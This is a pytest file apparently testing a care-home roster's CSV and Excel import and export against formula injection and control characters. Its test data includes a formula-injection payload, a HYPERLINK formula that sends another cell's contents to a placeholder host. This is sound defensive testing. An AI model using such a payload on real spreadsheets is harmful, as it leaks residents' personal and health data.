"""Roster files carry residents' text safely: formulas stay text, control characters never block a file."""

from __future__ import annotations

import csv
from datetime import date

from openpyxl import load_workbook
from sqlalchemy import select, update

from app.models import Resident
from app.privacy.roster_cipher import RosterCipher
from app.roster.exporter import export_roster
from app.roster.importer import import_roster
from tests.app.roster.conftest import HEADER, build_site, make_id, person

HYPERLINK = '=HYPERLINK("http://host/?d="&E3,"点击")'
ROWS = [
    person(HYPERLINK, make_id(date(1950, 3, 8), 11), room="101", note="+1 高血压"),
    person("@王五", make_id(date(1980, 5, 20), 13), room="102", relation="-", note="\t=1+2"),
]


def write_csv(path, rows) -> None:
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(HEADER)
        writer.writerows(rows)


def names(db) -> list[tuple[str, str | None, str | None]]:
    """Name, relation and the health note as the site's key opens it (it is sealed at rest)."""
    with db.session() as session:
        cipher = RosterCipher.of_site(session)
        residents = session.scalars(select(Resident).order_by(Resident.name))
        return [(r.name, r.relation, cipher.health_note(r)) for r in residents]


def test_formula_text_is_exported_as_text_and_imports_back_unchanged(site, tmp_path):
    write_csv(tmp_path / "in.csv", ROWS)
    assert import_roster(site, tmp_path / "in.csv").imported == 2
    export_roster(site.db, tmp_path / "out.xlsx", full=True)  # the notes as typed, not hidden
    sheet = load_workbook(tmp_path / "out.xlsx").active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    by_value = {cell.value: cell for cell in cells}
    assert by_value[HYPERLINK].data_type == "s" and by_value[HYPERLINK].quotePrefix

    export_roster(site.db, tmp_path / "out.csv", full=True)
    with (tmp_path / "out.csv").open(encoding="utf-8-sig", newline="") as handle:
        written = [cell for row in csv.reader(handle) for cell in row]
    assert "'" + HYPERLINK in written and "'+1 高血压" in written and "'@王五" in written
    assert not [cell for cell in written if cell.startswith(("=", "+", "-", "@"))]

    fresh = build_site_copy(tmp_path)
    assert import_roster(fresh, tmp_path / "out.csv").imported == 2
    assert names(fresh.db) == names(site.db)


def build_site_copy(tmp_path):
    from app.store import Database

    db = Database(f"sqlite:///{tmp_path / 'fresh.sqlite'}")
    db.upgrade()
    return build_site(db)


def test_a_nul_in_a_name_never_blocks_the_export(site, tmp_path):
    write_csv(tmp_path / "in.csv", ROWS[:1])
    import_roster(site, tmp_path / "in.csv")
    nul = "\x00" if site.db.is_sqlite else "\x01"  # PostgreSQL's text cannot hold NUL itself
    with site.db.session() as session:  # as an older import or another program may have stored it
        sealed = RosterCipher.of_site(session).health_columns("咳\x07嗽")
        session.execute(update(Resident).values(name=f"张{nul}三", **sealed))
    report = export_roster(site.db, tmp_path / "out.xlsx", full=True)
    assert report.residents == 1 and report.replaced == 2
    values = [cell.value for row in load_workbook(tmp_path / "out.xlsx").active.iter_rows() for cell in row]
    assert "张\ufffd三" in values and "咳\ufffd嗽" in values


def test_control_characters_are_refused_on_import_with_the_row_named(site, tmp_path):
    write_csv(tmp_path / "in.csv", [ROWS[1], person("李\x00四", make_id(date(1970, 1, 2), 17), room="103")])
    report = import_roster(site, tmp_path / "in.csv")
    assert not report.committed
    (line,) = report.problem_lines()
    assert "第 3 行" in line and "姓名 含控制字符 U+0000" in line
